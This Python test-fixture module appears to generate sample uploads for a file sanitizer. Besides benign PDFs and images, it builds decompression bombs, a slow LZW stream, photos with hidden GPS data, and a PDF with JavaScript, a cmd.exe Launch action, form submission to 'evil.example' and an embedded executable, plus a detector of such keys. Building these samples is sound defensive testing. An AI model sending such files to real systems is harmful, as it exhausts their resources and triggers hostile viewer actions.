"""Files as people send them: good ones, and ones that are not what they seem."""

import base64
import io
import struct
import zlib

import pikepdf
from PIL import Image


def pdf_bytes(pages=1, **save):
    stream = io.BytesIO()
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page()
        pdf.save(stream, **save)
    return stream.getvalue()


def encrypted_pdf(user="secret"):
    return pdf_bytes(encryption=pikepdf.Encryption(owner="o", user=user))


def image_bytes(kind="JPEG", size=(40, 30)):
    stream = io.BytesIO()
    Image.new("RGB", size, "white").save(stream, kind)
    return stream.getvalue()


def bomb_png(width=30_000, height=30_000):
    """A few hundred bytes that promise 900 million pixels."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = (
        chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )
    return b"\x89PNG\r\n\x1a\n" + parts


def bill_pdf(pages):
    """A PDF with a text layer: each entry is a page, its lines below each other."""
    stream = io.BytesIO()
    with pikepdf.new() as pdf:
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
        for text in pages:
            page = pdf.add_blank_page()
            page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
            lines = " ".join(
                "({}) Tj T*".format(line.replace("\\", "").replace("(", r"\(").replace(")", r"\)"))
                for line in text.splitlines()
            )
            shown = f"BT /F1 12 Tf 16 TL 50 740 Td {lines} ET"
            page.Contents = pdf.make_stream(shown.encode("latin-1"))
        pdf.save(stream, deterministic_id=True)
    return stream.getvalue()


def pdf_of_size(width, height):
    stream = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(width, height))
        pdf.save(stream)
    return stream.getvalue()


def phone_photo(size=(40, 30)):
    """A JPEG as a phone writes it: lying on its side, with its maker and a remark inside."""
    stream, exif = io.BytesIO(), Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "Apple"
    Image.new("RGB", size, "navy").save(stream, "JPEG", exif=exif, comment=b"secret remark")
    return stream.getvalue()


def tiff_bytes(pages):
    stream = io.BytesIO()
    first, *rest = [Image.new("RGB", (40, 30), "white") for _ in range(pages)]
    first.save(stream, "TIFF", save_all=True, append_images=rest)
    return stream.getvalue()


def pdf_with_everything():
    """A PDF that runs a script and a program, calls home, submits a form and carries files."""
    stream = io.BytesIO()
    name, words = pikepdf.Name, pikepdf.Dictionary
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        script = words(S=name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        pdf.Root.OpenAction = pdf.make_indirect(script)
        pdf.Root.AA = words(WC=script)
        page.AA = words(O=words(S=name.Launch, F=pikepdf.String("cmd.exe")))
        box = pikepdf.Array([0, 0, 100, 100])
        link = words(Type=name.Annot, Subtype=name.Link, Rect=box)
        home, form = words(link), words(link)
        home.A = words(S=name.URI, URI=pikepdf.String("https://evil.example/"))
        form.A = words(S=name.SubmitForm, F=pikepdf.String("https://evil.example/"))
        pdf.attachments["x.exe"] = b"MZ"
        clip = words(Type=name.Annot, Subtype=name.FileAttachment, Rect=box)
        clip.FS = pdf.attachments["x.exe"].obj
        page.Annots = pdf.make_indirect(pikepdf.Array([home, form, clip]))
        with pdf.open_metadata() as meta:
            meta["dc:title"] = "secret title"
        pdf.docinfo["/Author"] = "Dana Ortiz"
        pdf.save(stream)
    return stream.getvalue()


DANGERS = ("/AA", "/OpenAction", "/EmbeddedFiles", "/Author")
KINDS = ("/JavaScript", "/Launch", "/URI", "/SubmitForm", "/FileAttachment")


def dangers_in(content):
    """What a PDF holds that its viewer might act on, by name."""
    found = set()

    def look(thing, deep=0):
        if isinstance(thing, pikepdf.Stream) and thing.get("/Type") == "/Metadata":
            found.add("xmp")
        if isinstance(thing, pikepdf.Dictionary | pikepdf.Stream):
            found.update(name for name in DANGERS if name in thing)
            kinds = (thing.get("/S"), thing.get("/Subtype"))
            found.update(str(kind) for kind in kinds if kind in KINDS)
        if deep > 4:
            return
        if isinstance(thing, pikepdf.Dictionary):
            for value in thing.as_dict().values() if hasattr(thing, "as_dict") else ():
                look(value, deep + 1)
        elif isinstance(thing, pikepdf.Array):
            for value in thing:
                look(value, deep + 1)

    with pikepdf.open(io.BytesIO(content)) as pdf:
        for thing in pdf.objects:
            look(thing)
        look(pdf.trailer)
    return found


def flate_bomb(megabytes=400):
    """A few kilobytes (a bomb in a bomb: a few hundred bytes) that unpack to this many."""
    stream = io.BytesIO()
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 2**20) for _ in range(megabytes)) + packer.flush()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        contents = pikepdf.Stream(pdf, b"")
        contents.write(packed, filter=pikepdf.Name.FlateDecode)
        page.Contents = contents
        pdf.save(stream)
    return stream.getvalue()


def chained_bomb(outer, megabytes=400):
    """A bomb inside another filter: counted only by whoever undoes the whole chain."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 2**20) for _ in range(megabytes)) + packer.flush()
    packed = {
        "ASCIIHexDecode": lambda data: data.hex().encode() + b">",
        "ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
        "RunLengthDecode": run_lengths,
        "LZWDecode": lzw,
        "FlateDecode": lambda data: zlib.compress(data, 9),
    }[outer](packed)
    return pdf_with_stream(packed, [outer, "FlateDecode"])


def pdf_with_stream(packed, filters, **names):
    stream = io.BytesIO()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        contents = pikepdf.Stream(pdf, b"")
        contents.write(packed, filter=pikepdf.Array([pikepdf.Name("/" + one) for one in filters]))
        for name, value in names.items():
            contents[f"/{name}"] = value
        page.Contents = contents
        pdf.save(stream)
    return stream.getvalue()


def picture_bomb():
    """A picture in a PDF that promises 4,000 million pixels."""
    return pdf_with_stream(b"\0" * 50, ["CCITTFaxDecode"], Width=65_000, Height=65_000)


def run_lengths(data):
    parts = [data[at : at + 128] for at in range(0, len(data), 128)]
    return b"".join(bytes((len(part) - 1,)) + part for part in parts) + b"\x80"


def lzw(data):
    """The simplest LZW there is: clears before words grow past nine bits."""
    bits, out = "", bytearray()
    for at, byte in enumerate(data):
        bits += ("100000000" if at % 200 == 0 else "") + f"{byte:09b}"
    bits += "100000001"
    bits += "0" * (-len(bits) % 8)
    out.extend(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8))
    return bytes(out)


def portfolio():
    """A folder of files whose one page asks for another reader."""
    stream = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.attachments["bill.pdf"] = pdf_bytes()
        pdf.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)
        pdf.save(stream)
    return stream.getvalue()


def bomb_jpeg(width=30_000, height=30_000):
    """A few hundred bytes that promise 900 million pixels."""
    good = image_bytes()
    at = good.index(b"\xff\xc0") + 5
    return good[:at] + struct.pack(">HH", height, width) + good[at + 4 :]


def png_with(kind, data):
    """A good PNG with one chunk more."""
    good = image_bytes("PNG")
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return good[:33] + chunk + good[33:]


def ztxt_bomb(megabytes=200):
    """A good PNG with a compressed remark that unpacks to this many."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 2**20) for _ in range(megabytes)) + packer.flush()
    return png_with(b"zTXt", b"Comment\0\0" + packed)


def slow_pdf(megabytes=100):
    """LZW codes that clear the words again and again and say nothing: slow to undo, and empty."""
    codes = int("100000000" * 8, 2).to_bytes(9, "big") * (megabytes * 2**20 // 9)
    plain = pdf_with_stream(b"@@", ["LZWDecode"], Marked=1)
    with pikepdf.open(io.BytesIO(plain)) as pdf:
        pdf.pages[0].Contents.write(codes, filter=pikepdf.Name.LZWDecode)
        stream = io.BytesIO()
        pdf.save(stream, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return stream.getvalue()


def pdf_in_colours(*, rotate=0, crop=None):
    """A page with a frame, to which the makers below add what lies beside the contents."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(400, 600))
    page.Contents = pdf.make_stream(b"0.2 0.4 0.8 rg 20 20 120 40 re f 0 0 0 RG 30 30 340 540 re S")
    page.Rotate = rotate
    if crop:
        page.CropBox = pikepdf.Array(crop)
    return pdf, page


def saved(pdf):
    stream = io.BytesIO()
    pdf.save(stream)
    return stream.getvalue()


def annotated(subtype="Stamp", **page_words):
    """Something red that was put on the page: a stamp, or a signature in ink."""
    pdf, page = pdf_in_colours(**page_words)
    look = pdf.make_stream(b"0.9 0.1 0.1 rg 0 0 200 100 re f")
    look.Type, look.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    look.BBox = pikepdf.Array([0, 0, 200, 100])
    mark = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name("/" + subtype),
        Rect=pikepdf.Array([100, 300, 300, 400]),
        F=4,
        AP=pikepdf.Dictionary(N=look),
    )
    page.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(mark)]))
    return saved(pdf)


def filled_in(**page_words):
    """A form with a value that no appearance shows yet."""
    pdf, page = pdf_in_colours(**page_words)
    name, words = pikepdf.Name, pikepdf.Dictionary
    font = words(Type=name.Font, Subtype=name.Type1, BaseFont=name("/Helvetica-Bold"))
    field = pdf.make_indirect(
        words(
            Type=name.Annot, Subtype=name.Widget, FT=name.Tx, T=pikepdf.String("name"),
            V=pikepdf.String("ORTIZ DENTAL"), DA=pikepdf.String("/F1 36 Tf 0 g"), F=4,
            Rect=pikepdf.Array([40, 300, 360, 360]),
        )
    )  # fmt: skip
    page.Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = words(
        Fields=pikepdf.Array([field]),
        NeedAppearances=True,
        DR=words(Font=words(F1=font)),
        DA=pikepdf.String("/F1 36 Tf 0 g"),
    )
    return saved(pdf)


def unpacked(stream):
    """What a stream holds, "" for a picture in a packing of its own."""
    try:
        return bytes(stream.read_bytes())
    except pikepdf.PdfError:
        return b""


PLACE = b"GPS 39.2904N 76.6122W"


def jpeg_with_notes():
    """A photo with the place it was taken at in its notes, its comment, and behind its end."""
    image = Image.new("RGB", (160, 120), "white")
    image.paste("red", (0, 0, 80, 60))
    exif = Image.Exif()
    exif[0x010E] = PLACE.decode()  # what it shows, in words
    exif[0x8825] = {1: "N", 2: (39.0, 17.0, 25.0), 3: "W", 4: (76.0, 36.0, 44.0)}
    stream = io.BytesIO()
    image.save(stream, "JPEG", exif=exif, comment=PLACE, quality=90)
    return stream.getvalue() + b"SEFT" + PLACE


def pdf_with_photo(filters=("/DCTDecode",), kind="JPEG"):
    """A page with a photo as a scanning app puts it in: as the phone wrote it."""
    content = jpeg_with_notes()
    if kind == "JPEG2000":
        stream = io.BytesIO()
        Image.open(io.BytesIO(content)).save(stream, kind)
        content = stream.getvalue() + struct.pack(">I4s", 8 + len(PLACE), b"xml ") + PLACE
    for name in reversed(filters[:-1]):
        content = {"/FlateDecode": zlib.compress, "/ASCIIHexDecode": lambda c: c.hex().encode()}[
            name
        ](content)
    pdf, page = pdf_in_colours()
    photo = pdf.make_stream(content)
    photo.Type, photo.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    photo.Width, photo.Height, photo.BitsPerComponent = 160, 120, 8
    photo.ColorSpace = pikepdf.Name.DeviceRGB
    photo.Filter = pikepdf.Array([pikepdf.Name(name) for name in filters])
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=photo))
    page.Contents = pdf.make_stream(b"320 0 0 240 40 200 cm /P Do")
    stream = io.BytesIO()
    pdf.save(stream, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return stream.getvalue()


def form_of(*values, font="/Helvetica", **words):
    """A form whose values no appearance shows yet."""
    pdf, page = pdf_in_colours()
    name = pikepdf.Name
    fields = [
        pdf.make_indirect(
            pikepdf.Dictionary(
                Type=name.Annot, Subtype=name.Widget, FT=name.Tx, T=pikepdf.String(f"f{n}"),
                V=pikepdf.String(value), DA=pikepdf.String("/F1 30 Tf 0 g"), F=4,
                Rect=pikepdf.Array([40, 500 - 60 * n, 360, 550 - 60 * n]), **words,
            )
        )
        for n, value in enumerate(values)
    ]  # fmt: skip
    used = pikepdf.Dictionary(Type=name.Font, Subtype=name.Type1, BaseFont=name(font))
    page.Annots = pikepdf.Array(fields)
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(fields), DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=used))
    )
    return saved(pdf)


def words_on_page(text):
    """Words put on a page, without a picture of them: every reader draws them itself."""
    pdf, page = pdf_in_colours()
    mark = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FreeText, F=4,
        Contents=pikepdf.String(text), DA=pikepdf.String("/Helv 30 Tf 0 g"),
        Rect=pikepdf.Array([40, 300, 360, 360]),
    )  # fmt: skip
    page.Annots = pikepdf.Array([pdf.make_indirect(mark)])
    return saved(pdf)
